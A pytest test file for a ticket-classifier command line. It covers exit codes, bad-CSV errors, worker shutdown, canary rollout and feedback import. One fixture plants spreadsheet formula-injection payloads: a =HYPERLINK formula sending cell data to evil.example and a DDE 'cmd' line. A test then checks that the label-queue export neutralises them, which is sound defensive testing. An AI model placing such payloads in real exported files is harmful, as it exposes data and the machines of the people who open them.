"""The command line's two error paths: the project's errors and known user mistakes print one line
and exit 2; anything else is a bug and keeps its traceback (exit 1)."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from core.errors import StoreError, TrainingError
from flows import cli, supervisor


def _table(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


BAD_FILES = {
    "empty.csv": (b"", "the file is empty"),
    "missing.csv": (b"titulo,label\nhola,a\n", "missing column(s)"),
    "blank.csv": (
        b"short_description,close_notes,label\nclave,,a\n  ,,b\n",
        "empty text in row(s) 2",
    ),
    "oneclass.csv": (
        b"short_description,close_notes,label\n" + b"".join(b"t%d,,a\n" % i for i in range(9)),
        "only one class",
    ),
    "tiny.csv": (
        b"short_description,close_notes,label\n"
        + b"".join(b"t%d,,%s\n" % (i, b"a" if i < 8 else b"b") for i in range(10)),
        "fewer than 5 rows",
    ),
}


@pytest.mark.parametrize("name", sorted(BAD_FILES))
def test_bad_data_prints_one_line_naming_the_file_and_exits_2(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    name: str,
) -> None:
    monkeypatch.setenv("TICKETS_HOME", str(tmp_path / "home"))
    content, message = BAD_FILES[name]
    path = tmp_path / name
    path.write_bytes(content)
    assert cli.main(["train", "--data", str(path)]) == cli.EXIT_USAGE
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("error: ") and str(path) in err[0]
    assert message in err[0]


def test_unseen_test_labels_and_a_missing_file(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    demo_csv: Path,
) -> None:
    monkeypatch.setenv("TICKETS_HOME", str(tmp_path / "home"))
    test = _table(tmp_path / "test.csv", "short_description,close_notes,label\nx,,nueva\n")
    assert cli.main(["train", "--data", str(demo_csv), "--test-data", str(test)]) == 2
    assert "never appear in the training data" in capsys.readouterr().err
    assert cli.main(["train", "--data", str(tmp_path / "absent.csv")]) == 2
    assert "absent.csv" in capsys.readouterr().err


@pytest.mark.parametrize(
    "error",
    [StoreError("s3://b/k: cannot read (503)"), TrainingError("no family completed a trial")],
)
def test_every_tickets_error_is_a_one_line_user_error(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    error: Exception,
) -> None:
    import core.data.tables

    def fail(*args: object, **kwargs: object) -> None:
        raise error

    monkeypatch.setenv("TICKETS_HOME", str(tmp_path / "home"))
    monkeypatch.setattr(core.data.tables, "load_training_data", fail)
    assert cli.main(["train", "--data", "x.csv"]) == cli.EXIT_USAGE
    assert capsys.readouterr().err.strip() == f"error: {error}"


def test_an_output_path_through_a_file_is_a_user_mistake(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    out = blocker / "demo.csv"
    assert cli.main(["simulate", "--n", "5", "--out", str(out)]) == cli.EXIT_USAGE
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("error: ")


def test_invalid_settings_name_the_setting(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TICKETS_HOME", str(tmp_path / "home"))
    assert cli.main(["train", "--data", "x.csv", "--families", "deep_net"]) == cli.EXIT_USAGE
    assert "invalid setting: families" in capsys.readouterr().err


def test_a_bug_raising_value_error_keeps_its_traceback(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A ValueError from our own code (say, during refit) is a bug, not a user mistake."""
    import core.data.tables

    def bug(*args: object, **kwargs: object) -> None:
        raise ValueError("shapes (3,) and (4,) not aligned")

    monkeypatch.setenv("TICKETS_HOME", str(tmp_path / "home"))
    monkeypatch.setattr(core.data.tables, "load_training_data", bug)
    with pytest.raises(ValueError, match="not aligned"):
        cli.main(["train", "--data", "x.csv"])


def test_a_bug_exits_1_with_a_traceback_in_a_real_process(tmp_path: Path) -> None:
    script = (
        "import sys, core.data.tables, flows.cli\n"
        "def bug(*a, **k): raise KeyError('model_version')\n"
        "core.data.tables.load_training_data = bug\n"
        "sys.exit(flows.cli.main(['train', '--data', 'x.csv']))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script],
        capture_output=True,
        text=True,
        env={"TICKETS_HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
        cwd=Path(__file__).resolve().parents[2],
        timeout=120,
        check=False,
    )
    assert done.returncode == 1
    assert "Traceback" in done.stderr and "KeyError: 'model_version'" in done.stderr


def test_importing_the_command_line_loads_no_heavy_library() -> None:
    """Every worker of ``tickets serve --workers N`` re-imports the command line's module before
    it can answer the supervisor's health ping (multiprocessing's spawn); a heavy import there
    made a replacement for a killed worker miss the ping on a busy machine and be killed in turn,
    again and again."""
    script = (
        "import sys, flows.cli\n"
        "print(sorted(n for n in ('sklearn', 'skops', 'pandas', 'prefect', 'mlflow', 'numpy') "
        "if n in sys.modules))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script],
        capture_output=True,
        text=True,
        cwd=Path(__file__).resolve().parents[2],
        timeout=120,
        check=True,
    )
    assert done.stdout.strip() == "[]"


def test_a_background_training_that_ignores_sigterm_is_killed() -> None:
    import signal

    stubborn = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); print(1, "
            "flush=True); time.sleep(60)",
        ],
        stdout=subprocess.PIPE,
        start_new_session=True,
    )
    assert stubborn.stdout is not None and stubborn.stdout.readline().strip() == b"1"
    supervisor.stop(stubborn, grace_s=0.5)
    assert stubborn.poll() == -signal.SIGKILL
    polite = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(60)"], start_new_session=True
    )
    supervisor.stop(polite, grace_s=5)
    assert polite.poll() == -signal.SIGTERM


def test_shadow_canary_and_status_from_the_command_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import json
    import shutil

    from core.io.store import LocalStore
    from core.release.bundle import read_champion, read_manifest, swap_champion
    from core.release.rollout import read_challenger

    home = tmp_path / "home"
    monkeypatch.setenv("TICKETS_HOME", str(home))
    golden = Path(__file__).resolve().parents[1] / "fixtures" / "golden" / "bundles"
    store = LocalStore(home / "store")
    for name in ("golden-logistic-regression", "golden-linear-svm"):
        shutil.copytree(golden / name, home / "store" / "bundles" / name)
    manifest = read_manifest(store, "golden-logistic-regression")
    assert swap_champion(store, manifest, read_champion(store)[1])

    assert cli.main(["shadow", "start", "golden-linear-svm", "--share", "0.5"]) == 0
    assert "scores 50% of tickets" in capsys.readouterr().out
    assert cli.main(["canary", "start", "golden-linear-svm", "--percent", "12.5"]) == 0
    pointer, _ = read_challenger(store)
    assert pointer is not None and (pointer.mode, pointer.percent) == ("canary", 12.5)
    capsys.readouterr()
    assert cli.main(["status", "--json"]) == 0
    status = json.loads(capsys.readouterr().out)
    assert status["champion"]["bundle_id"] == "golden-logistic-regression"
    assert status["canary_percent"] == 12.5 and status["decisions"] == []
    assert cli.main(["canary", "stop"]) == 0
    assert "stopped" in capsys.readouterr().out
    assert cli.main(["status"]) == 0
    text = capsys.readouterr().out
    assert "challenger: none (model golden-linear-svm stopped" in text
    assert "canary share: 0%" in text

    # Mistakes get one line and exit 2: the champion as challenger, an unknown model, a bad share.
    for argv, message in (
        (["shadow", "start", "golden-logistic-regression"], "is the champion already"),
        (["canary", "start", "9", "--percent", "5"], "no bundle or model version '9'"),
        (["canary", "start", "golden-linear-svm", "--percent", "150"], "percent"),
        (["rollback"], "no earlier champion"),
    ):
        assert cli.main(argv) == 2, argv
        err = capsys.readouterr().err.strip().splitlines()
        assert len(err) == 1 and err[0].startswith("error") and message in err[0], err


def _desk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home whose champion is a golden bundle and whose log holds three predictions, one of
    them a ticket written to run as a spreadsheet formula."""
    import shutil

    from core.io.store import LocalStore
    from core.predlog import PredictionLog, PredictionRecord
    from core.release.bundle import load_bundle, read_champion, swap_champion

    home = tmp_path / "home"
    golden = Path(__file__).resolve().parents[1] / "fixtures" / "golden"
    shutil.copytree(golden, home / "store")
    store = LocalStore(home / "store")
    _, manifest = load_bundle(store, "golden-logistic-regression")
    assert swap_champion(store, manifest, read_champion(store)[1])
    texts = ['=HYPERLINK("http://evil.example/?d="&A1,"ver")', "+cmd|' /C calc'!A0", "clave"]
    with PredictionLog(home / "predictions.db") as log:
        log.record_each(
            [
                PredictionRecord(
                    f"r{i}", manifest.model_version, text, "", "errores_portal", 0.4, {}
                )
                for i, text in enumerate(texts)
            ]
        )
    monkeypatch.setenv("TICKETS_HOME", str(home))
    return home


def test_the_label_queue_file_cannot_run_a_formula_and_its_labels_come_back(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Anonymous ticket text such as =HYPERLINK(...) landed verbatim in the file an agent opens."""
    import csv

    from core.predlog import PredictionLog

    home = _desk(tmp_path, monkeypatch)
    out = tmp_path / "queue.csv"
    assert cli.main(["label-queue", "--n", "3", "--out", str(out)]) == 0
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    cells = [value for row in rows for value in row.values()]
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in cells)
    texts = {row["short_description"] for row in rows}
    assert '\'=HYPERLINK("http://evil.example/?d="&A1,"ver")' in texts  # still readable
    for row in rows:
        row["true_label"] = "=acceso_contrasenas" if row["request_id"] == "r0" else "certificados"
        row["true_label"] = (
            "'" + row["true_label"] if row["true_label"][0] == "=" else row["true_label"]
        )
    with out.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert cli.main(["feedback", "--file", str(out)]) == 0
    with PredictionLog(home / "predictions.db") as log:
        labels = dict(log.window().set_index("request_id")["true_label"])
    assert labels["r0"] == "=acceso_contrasenas" and labels["r2"] == "certificados"


FEEDBACK_FILES = {
    "windows-1252 with ;": (
        "request_id;true_label;nota\nr2;certificados;sesión\n".encode("cp1252"),
        0,
    ),
    "utf-16 with tabs": ("request_id\ttrue_label\nr2\tcertificados\n".encode("utf-16"), 0),
    "empty": (b"", "the file is empty"),
    "badly quoted": (b'request_id,true_label\n"r2,certificados\nr1,x\n', "not a readable CSV"),
}


@pytest.mark.parametrize("name", sorted(FEEDBACK_FILES))
def test_a_feedback_file_is_read_as_tables_are_or_refused_in_one_line(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    name: str,
) -> None:
    """Windows-1252, UTF-16, empty and badly quoted files ended in tracebacks, and a ';' file
    was said to miss its columns."""
    _desk(tmp_path, monkeypatch)
    content, expected = FEEDBACK_FILES[name]
    path = tmp_path / "labels.csv"
    path.write_bytes(content)
    status = cli.main(["feedback", "--file", str(path)])
    printed = capsys.readouterr()
    if expected == 0:
        assert status == 0 and "1 labels stored" in printed.out
    else:
        assert status == 2
        (line,) = printed.err.strip().splitlines()
        assert line.startswith("error: ") and str(path) in line and str(expected) in line
